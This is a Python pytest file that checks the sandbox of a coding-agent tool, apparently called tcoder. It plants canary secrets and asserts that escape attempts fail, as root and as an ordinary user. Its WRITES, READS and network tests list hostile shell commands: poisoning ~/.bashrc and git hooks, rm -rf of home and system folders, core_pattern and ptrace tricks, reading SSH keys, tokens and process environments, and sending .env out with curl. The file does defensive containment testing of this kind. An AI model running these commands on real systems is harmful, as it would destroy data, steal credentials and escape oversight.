"""Ways out of the sandbox, tried as root and as an ordinary user. Each case names what it is about."""

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

PROJECT = Path(__file__).parents[2]
SITE = next(path for path in sys.path if path.endswith("site-packages"))
CANARY = "canary-5f1c9e"
NOBODY = 65534


@dataclass
class Ground:
    """A workspace, a home with secrets and a place outside of both, on the host."""

    top: Path
    user: str

    @property
    def root(self) -> Path:
        return self.top / "work"

    @property
    def home(self) -> Path:
        return self.top / "home"

    def run(self, *commands: str) -> list[tuple[int | None, str]]:
        python = [sys.executable]
        if self.user == "ordinary" and os.geteuid() == 0:
            drop = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--"]
            python = [*drop, interpreter_for_everybody()]
        secret = {"OPENAI_API_KEY": CANARY, "MY_TOKEN": CANARY, "PIP_INDEX_URL": f"https://u:{CANARY}@localhost/"}
        done = subprocess.run(
            [*python, "-P", str(PROJECT / "tests/security/run_contained.py"), self.root, self.home, self.top / "spill"],
            input=json.dumps(commands), capture_output=True, text=True, timeout=50, check=False, cwd=self.top,
            env={"PATH": os.environ["PATH"], "PYTHONPATH": f"{PROJECT}:{SITE}", "TMPDIR": str(self.top / "tmp"),
                 "HOME": str(self.home), "LANG": "C.UTF-8", "SSH_AUTH_SOCK": str(self.home / "agent"), **secret},
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        return [(code, output) for code, output in json.loads(done.stdout)]


def interpreter_for_everybody() -> str:
    """This interpreter, or one of the same version outside of root's home."""
    own = Path(os.path.realpath(sys.executable))
    if all(folder.stat().st_mode & stat.S_IXOTH for folder in own.parents):
        return sys.executable
    version = f"python3.{sys.version_info.minor}"
    found = shutil.which(version, path="/usr/bin:/usr/local/bin")
    assert found, f"an ordinary user needs a {version} to run tcoder with"
    return found


@pytest.fixture(params=["root", "ordinary"])
def ground(request: pytest.FixtureRequest) -> Iterator[Ground]:
    """Not in pytest's own folders: they are closed to other users. Who runs the tests may be all there is."""
    user = request.param if os.geteuid() == 0 else "ordinary"
    place = next(name for name in ("/tmp", "/var/tmp", "/dev/shm") if os.stat(name).st_mode & stat.S_IXOTH)
    top = Path(tempfile.mkdtemp(prefix="ground-", dir=place))
    made = Ground(top, user)
    for folder in (
        "work/.git/hooks",
        "work/vendor/x/.git/hooks",
        "work/vendor/store.git/objects",
        "work/vendor/store.git/refs",
        "work/vendor/.kept/worktrees/tree",
        "work/vendor/tree",
        "home/.ssh",
        "home/.cache/pip",
        "spill",
        "tmp",
        "elsewhere",
    ):
        (top / folder).mkdir(parents=True)
    (made.root / ".git/config").write_text("[core]\n")
    (made.root / "vendor/store.git/HEAD").write_text("ref: refs/heads/main\n")
    (made.root / "vendor/.kept/worktrees/tree/commondir").write_text("../..\n")
    (made.root / "vendor/tree/.git").write_text("gitdir: ../.kept/worktrees/tree\n")
    (made.root / ".env").write_text(f"KEY={CANARY}\n")
    (made.root / "file").write_text("mine\n")
    (made.home / ".ssh/id_rsa").write_text(CANARY)
    (made.home / ".bashrc").write_text("real\n")
    (made.home / ".netrc").write_text(CANARY)
    (made.home / ".npmrc").write_text(f"fund=false\n//registry.localhost/:_authToken={CANARY}\n")
    (made.home / ".cache/pip/wheel").write_text("real\n")
    (top / "elsewhere/file").write_text("real\n")
    if user == "ordinary" and os.geteuid() == 0:
        for folder, folders, files in os.walk(top):
            for name in (".", *folders, *files):
                os.chown(Path(folder) / name, NOBODY, NOBODY)
    yield made
    shutil.rmtree(top)


def tree(top: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in sorted(top.rglob("*")) if path.is_file()}


WRITES = [  # (case, command): each must fail and leave the host as it was
    ("A13 rc file", "echo evil >> ~/.bashrc"),
    ("A13 home", "touch ~/new"),
    ("system", "touch /etc/evil || touch /usr/evil || touch /var/evil"),
    ("elsewhere", "echo evil > $OUT/file"),
    ("symlink out", "ln -sf $OUT/file link && echo evil > link"),
    ("hard link out", "ln $OUT/file hard"),
    ("A27 create .tcoder", "mkdir -p .tcoder/x"),
    ("A27 create .envrc", "echo evil > .envrc"),
    ("A27 create .mcp.json", "echo evil > .mcp.json"),
    ("A27 create .vscode", "mkdir -p .vscode && echo evil > .vscode/tasks.json"),
    ("git config", "echo evil >> .git/config"),
    ("git hook", "echo evil > .git/hooks/pre-commit"),
    ("A28 nested hook", "echo evil > vendor/x/.git/hooks/pre-commit"),
    ("A28 commondir of a bare repository", "echo ../../evil > vendor/store.git/commondir"),
    ("A28 commondir of a work tree", "echo ../../../../evil > vendor/.kept/worktrees/tree/commondir"),
    ("A28 settings of a work tree's repository", "echo '[core]' > vendor/.kept/config"),
    ("A29 move .git", "mv .git moved"),
    ("A29 replace .git", "rm -rf .git && mkdir .git && touch .git/evil"),
    ("A29 move the root", "mv $PWD $PWD-moved"),
    ("R51 rm -rf home", "rm -rf ~"),
    ("R51 rm -rf /", "rm -rf --no-preserve-root /etc /home /opt 2>/dev/null; test ! -e /etc/passwd"),
    ("R50 git reset", "git reset --hard"),
    ("core_pattern", "echo '|/bin/evil' > /proc/sys/kernel/core_pattern"),
    ("sysrq", "echo x > /proc/sysrq-trigger"),
    ("sys", "echo x > /sys/kernel/mm/ksm/run"),
    ("remount", "mount -o remount,rw,bind /"),
    ("new user namespace", "unshare -Ur true"),
    ("new mount", "mount -t tmpfs tmpfs /mnt"),
    ("chroot", "chroot / true"),
    ("raw device", "mknod disk b 254 0"),
    ("keeper's memory", "printf x > /proc/$PPID/mem || printf x > /proc/$$/mem"),
    ("trace", "python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).ptrace(16, 1, 0, 0) == -1)'"),
    ("type into the terminal", "python3 -c 'import fcntl; fcntl.ioctl(0, 0x5412, b\"x\")'"),
    ("io_uring", "python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).syscall(425, 8, 0) == -1)'"),
    ("host virtual socket", "python3 -c 'import socket; socket.socket(40, 1)'"),
    ("channel", "touch /tmp/tcoder-shell-*/channel/x || rm /tmp/tcoder-shell-*/channel/state"),
    ("capabilities", "grep -Eq '^Cap(Eff|Prm|Bnd|Inh|Amb):.*[1-9a-f]' /proc/self/status"),
]  # fmt: skip


def test_nothing_outside_or_protected_can_be_written(ground: Ground) -> None:
    before = tree(ground.top)
    results = ground.run(f"export OUT={ground.top}/elsewhere", *(command for _, command in WRITES))
    went_through = [
        (case, output) for (case, _), (code, output) in zip(WRITES, results[1:], strict=True) if code in (0, None)
    ]
    assert went_through == []
    after = tree(ground.top)
    changed = {path for path in before.keys() | after.keys() if before.get(path) != after.get(path)}
    assert {path for path in changed if not path.startswith(str(ground.top / "spill"))} <= {str(ground.root / "link")}
    assert sorted(path.name for path in ground.root.iterdir() if path.name.startswith(".")) == [".env", ".git"]


READS = [  # (case, command): none may show the canary
    ("ssh key", "cat ~/.ssh/id_rsa"),
    ("netrc", "cat ~/.netrc"),
    ("npm token", "cat ~/.npmrc"),
    ("A60 own environment", "env; set"),
    ("A60 all environments", "cat /proc/*/environ | tr '\\0' '\\n'"),
    ("A60 ps", "ps ewwax"),
    ("A60 parent", "cat /proc/$PPID/environ /proc/1/environ | tr '\\0' '\\n'"),
    ("A60 memory", "strings /proc/1/mem; grep -a canary- /proc/1/mem"),
    ("agent socket", "echo $SSH_AUTH_SOCK; ls -la $SSH_AUTH_SOCK | grep -o canary-5f1c9e"),
    ("open descriptors", "cat /proc/[0-9]*/fd/[3-9] 2>/dev/null </dev/null | head -c 100000"),
]


def test_no_secret_can_be_read(ground: Ground) -> None:
    results = ground.run(
        *(f"timeout 5 bash -c {json.dumps(command).replace('$', chr(92) + '$')}" for _, command in READS)
    )
    shown = [case for (case, _), (_, output) in zip(READS, results, strict=True) if CANARY in output]
    assert shown == []
    assert "fund=false" in results[2][1]


def test_what_must_work_works(ground: Ground) -> None:
    results = ground.run(
        "echo more >> file && cat file",
        "mkdir -p new/deep && touch new/deep/file && rm -r new",
        "git -c safe.directory='*' config -l >/dev/null; cat .git/config",
        "echo poisoned > ~/.cache/pip/wheel && cat ~/.cache/pip/wheel && touch ~/.cache/own",
        "touch /tmp/x /var/tmp/y && ls /tmp/x",
        "python3 -c 'import multiprocessing; print(multiprocessing.Pool(2).map(abs, [-1, 2]))'",
        "cat ~/.bashrc",
    )
    assert results[0] == (0, "mine\nmore\n")
    assert results[1][0] == 0
    assert results[2][0] == 0 and "[core]" in results[2][1]
    assert results[3] == (0, "poisoned\n")
    assert results[4] == (0, "/tmp/x\n")
    assert results[5] == (0, "[1, 2]\n")
    assert results[6] == (0, "real\n")
    assert (ground.home / ".cache/pip/wheel").read_text() == "real\n"
    assert not (ground.home / ".cache/own").exists()
    assert list((ground.top / "tmp").iterdir()) == []


def test_a57_a58_nothing_reaches_the_network(ground: Ground) -> None:
    with socket.create_server(("127.0.0.1", 0)) as web, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as names:
        names.bind(("127.0.0.1", 0))
        address = web.getsockname()[1], names.getsockname()[1]
        results = ground.run(
            f"curl -sm 2 http://127.0.0.1:{address[0]}/?d=$(cat .env)",
            f"exec 3<>/dev/tcp/127.0.0.1/{address[0]}",
            f"echo secret > /dev/udp/127.0.0.1/{address[1]}",
            "python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 80), 2)'",
            "getent hosts secret.localdomain.invalid",
        )
        web.settimeout(0.05)
        names.settimeout(0.05)
        with pytest.raises(TimeoutError):
            web.accept()
        with pytest.raises(TimeoutError):
            names.recv(100)
    assert [code for code, _ in results if code == 0] in ([], [0])  # sending to nobody is no error for UDP
    assert results[0][0] != 0 and results[1][0] != 0 and results[3][0] != 0


def test_sockets_of_the_host_are_out_of_sight(ground: Ground) -> None:
    path = ground.home / ".docker/run.sock"
    path.parent.mkdir()
    path.parent.chmod(0o755)
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        path.chmod(0o777)
        server.listen()
        ((code, _),) = ground.run(f"python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"{path}\")'")
    assert code != 0


def test_a32_no_predictable_name_is_used(ground: Ground) -> None:
    """Every path tcoder could be expected to use in a shared folder is planted as a link to a file of the victim."""
    victim = ground.top / "elsewhere/file"
    for name in ("tcoder", "tcoder-shell", "tcoder-shell-1", "shell-state"):
        (ground.top / "tmp" / name).symlink_to(victim)
    assert ground.run("true") == [(0, "")]
    assert victim.read_text() == "real\n"


def test_a_disk_filler_stops_at_the_private_tmp(ground: Ground) -> None:
    ((code, output),) = ground.run("df -B1 --output=size /tmp /var/tmp | tail -2 | sort -u")
    assert code == 0
    assert all(int(size) <= 2 << 30 for size in output.split())
